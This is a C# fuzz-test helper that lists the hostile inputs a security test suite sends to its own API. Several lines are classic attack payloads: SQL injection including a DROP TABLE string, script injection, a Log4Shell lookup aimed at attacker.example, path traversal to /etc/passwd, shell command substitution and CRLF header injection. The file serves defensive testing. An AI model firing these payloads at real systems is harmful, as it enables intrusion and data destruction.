using CsCheck;

namespace Samskaping.IntegrationTests.Security.Fuzz;

/// <summary>
/// The hostile strings, ids and headers the fuzzer sends: injection payloads, unicode edge cases, ids that are not
/// ids. Each generator is a CsCheck <see cref="Gen{T}"/>, so one seed reproduces the same choices.
/// </summary>
internal static class HostileValues
{
    /// <summary>SQL, script and template payloads as they appear in the OWASP cheat sheets.</summary>
    public static readonly string[] Injections =
    [
        "' OR 1=1 --",
        "'; DROP TABLE cases.cases; --",
        "\" OR \"\"=\"",
        "1; SELECT pg_sleep(0) --",
        "' UNION SELECT null, current_user --",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%s%s%s%n",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "$(id)`id`",
        "\r\nSet-Cookie: injected=1",
        "{\"$where\": \"sleep(1)\"}",
    ];

    /// <summary>Unicode that breaks naive code: NUL, controls, RTL overrides, combining marks, emoji, æøå.</summary>
    public static readonly string[] Unicode =
    [
        "\u0000",
        "Berg\u0000hansen",
        "\u0001\u0002\u0003\u001f\u007f",
        "\u202eesrever\u202c",
        "\u200b\u200c\u200d\ufeff",
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a",
        "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466",
        "\U0001F4A9\U0001F525",
        "\ufffd\ufffe",
        "Ærlig Østen Åse æøå ÆØÅ",
        "ﷺ ﷽",
        "İıŞş ǅ ß ẞ",
        "\u00a0\u2028\u2029",
    ];

    /// <summary>
    /// Escaped JSON (raw text): the first <see cref="UnstorableRawJsonStrings"/> decode to lone or reversed surrogates or
    /// NUL, which every service refuses (400); the last is a valid surrogate pair.
    /// </summary>
    public static readonly string[] RawJsonStrings =
    [
        "\"\\ud800\"",
        "\"x\\udfffx\"",
        "\"\\udc00\\ud800\"",
        "\"\\u0000\"",
        "\"tab\\there\\u0000nul\"",
        "\"\\uDBFF\\uDFFF\"",
    ];

    public const int UnstorableRawJsonStrings = 5;

    /// <summary>Path segments that are not the id the route wants. Raw: sent as written, not escaped again.</summary>
    public static readonly string[] RawPathSegments =
    [
        "not-a-guid",
        "12345",
        "0",
        "-1",
        "00000000-0000-0000-0000-000000000000",
        "0195c1e2-7a3b-7c4d-8e9f-0a1b2c3d4e5g",
        "{0195c1e2-7a3b-7c4d-8e9f-0a1b2c3d4e5f}",
        "0195c1e27a3b7c4d8e9f0a1b2c3d4e5f00",
        "..%2f..%2finternal%2fcases",
        "%2e%2e%2f%2e%2e%2f",
        "..%5c..%5c",
        "%ff%fe",
        "%c0%af",
        "%27%20OR%201%3D1%20--",
        "%3Cscript%3E",
        "null",
        "undefined",
        "NaN",
        "true",
        "%E2%80%AE",
    ];

    public static readonly Gen<string> Injection = Gen.OneOf(Injections);

    public static readonly Gen<string> UnicodeEdge = Gen.OneOf(Unicode);

    /// <summary>A long string of æøå (multi-byte in UTF-8) or plain letters, from just over typical limits to 100k.</summary>
    public static readonly Gen<string> Long =
        Gen.Select(Gen.OneOf("æøå", "x", "Å\u030a", "\U0001F600"), Gen.OneOf(201, 1_001, 4_001, 20_000, 100_000),
            (unit, count) => string.Concat(Enumerable.Repeat(unit, count / unit.Length + 1)));

    /// <summary>Any hostile string, for a property, a query value or a path segment.</summary>
    public static readonly Gen<string> Text = Gen.Frequency((4, Injection), (4, UnicodeEdge), (1, Long), (1, Gen.Const("")), (1, Gen.Const(" ")));

    /// <summary>
    /// An id in a path: a raw hostile segment, a random GUID (no such thing), or an escaped hostile string. Never an
    /// encoded NUL: Kestrel refuses such a request line itself (400) before any code of ours, and the in-memory test
    /// server the gateway runs on in tests throws instead, so it would test the test host.
    /// </summary>
    public static readonly Gen<string> PathSegment = Gen.Frequency(
        (5, Gen.OneOf(RawPathSegments)),
        (3, Gen.Guid.Select(g => g.ToString())),
        (2, Gen.Select(Injection, UnicodeEdge, (a, b) => Uri.EscapeDataString(a + b).Replace("%00", "", StringComparison.Ordinal))),
        (1, Gen.OneOf(300, 2_000, 9_000).Select(n => new string('a', n))));

    /// <summary>A query value: hostile text, numbers out of range, something that looks like a cursor but is not, or so
    /// long that the path and query pass the gateway's limit (8,000) or a service's request line (8 KiB).</summary>
    public static readonly Gen<string> QueryValue = Gen.Frequency(
        (4, Text.Select(t => t.Length > 3_000 ? t[..3_000] : t)),
        (2, Gen.OneOf("-1", "0", "2147483647", "2147483648", "-2147483649", "99999999999999999999", "1e9", "1e400", "1.5", "0x10", "NaN", "-0", "\uff19", "\u0661\u0662")),
        (1, Gen.OneOf("AAAA", "eyJ0IjoiYSJ9", "////", "%%%", "ZmFrZQ==", "not-base64-at-all")),
        (1, Gen.OneOf(RawPathSegments)),
        (1, Gen.OneOf(7_900, 8_100, 12_000, 20_000).Select(n => new string('q', n))));

    /// <summary>Query values sent as written: percent-escapes that are not UTF-8, unfinished, or an encoded lone surrogate.</summary>
    public static readonly string[] RawQueryValues =
        ["%ff%fe", "%C3%28", "%", "%zz", "%E2%80%AE", "a+b%2Bc", "%F0%9F%98", "%ED%A0%80", "%EF%BF%BF", "%C0%AF", "%00x", "x%0d%0aSet-Cookie:%20a=1"];

    /// <summary>
    /// JSON numbers at and past the limits of the columns and types behind them: money is numeric(14,2) (at most
    /// 999 999 999 999.99) and .NET decimal; counts and levels are int or smallint. Written as raw JSON text.
    /// </summary>
    public static readonly string[] BoundaryNumbers =
    [
        "999999999999.99", "1000000000000", "999999999999.995", "-999999999999.99", "1E12", "99999999999999999999.99",
        "79228162514264337593543950335", "79228162514264337593543950336", "1e308", "-1e308", "1e-400", "4.9E-324",
        "0.001", "-0.01", "0", "-0", "12345678901234567890123456789012345678901234567890",
        "2147483647", "2147483648", "-2147483648", "-2147483649", "32767", "32768", "9223372036854775807", "9223372036854775808", "1e3", "1.0",
    ];

    /// <summary>Accept headers other than JSON: what a browser sends, other media types, nothing acceptable, garbage.</summary>
    public static readonly string[] AcceptValues =
    [
        "text/html", "image/png", "application/xml", "*/*;q=0", "application/json;q=0", "text/plain; charset=utf-8", ";;;,,",
        "application/problem+xml", "", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "application/*",
    ];

    /// <summary>A JSON Content-Type with a charset spelled otherwise: upper case, aliases, other encodings, empty, twice.</summary>
    public static readonly string[] OddCharsets =
    [
        "application/json; charset=UTF-8", "application/json; charset=utf8", "application/json; charset=us-ascii", "application/json; charset=iso-8859-1",
        "application/json; charset=utf-32", "application/json; charset=\"\"", "application/json; charset=utf-8; charset=latin1", "application/json; charset=utf-7",
        "application/json; charset='utf-8'", "application/json;charset=\"UTF-8\"",
    ];

    /// <summary>A JSON Content-Type with parameters JSON has no use for, or with a parameter half written (read as JSON all the same).</summary>
    public static readonly string[] JsonWithParameters =
    [
        "application/json; boundary=----x", "application/json; boundary=\"a b\"; foo=bar", "application/json;;", "application/json; q=1",
        "application/json; charset=utf-8; version=2", "APPLICATION/JSON", "application/json; =utf-8", "application/json; charset",
    ];

    /// <summary>Media types that are JSON by their suffix or an old name.</summary>
    public static readonly string[] JsonLike = ["application/problem+json", "application/vnd.samskaping+json", "text/json", "application/merge-patch+json"];

    /// <summary>Content-Type values that do not parse as a media type at all.</summary>
    public static readonly string[] MalformedTypes = ["application/", "json", "; charset=utf-8", "application/json charset=utf-8", "/"];

    /// <summary>Header text beyond ASCII, sent as the UTF-8 a browser or curl sends.</summary>
    public static readonly string[] BeyondAscii =
        ["Åse Kjærnes-Øvrebø", "\u202eesrever", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "İıŞş ǅ ß ẞ", "\ufffd\ufffe", "e\u0301\u0301", "\u00a0\u2028"];

    /// <summary>
    /// Header text with control characters, which no header value may hold (tab aside). Not CR, LF or NUL: .NET's
    /// client drops a value with one of those, and Kestrel refuses them before any code of ours (docs/security.md).
    /// </summary>
    public static readonly string[] ControlCharacters = ["a\u0001b", "\u001b[31mred", "a\u007fb", "\u0008", "x\u001fy", "\u0007bell"];

    public static readonly Gen<string> IdempotencyKey = Gen.Frequency(
        (2, Gen.OneOf(Injections)),
        (1, Gen.OneOf(" ", "\t", "a\u00e6\u00f8\u00e5", "k\u00ff")),
        (1, Gen.OneOf(129, 1_000, 8_000).Select(n => new string('k', n))));
}
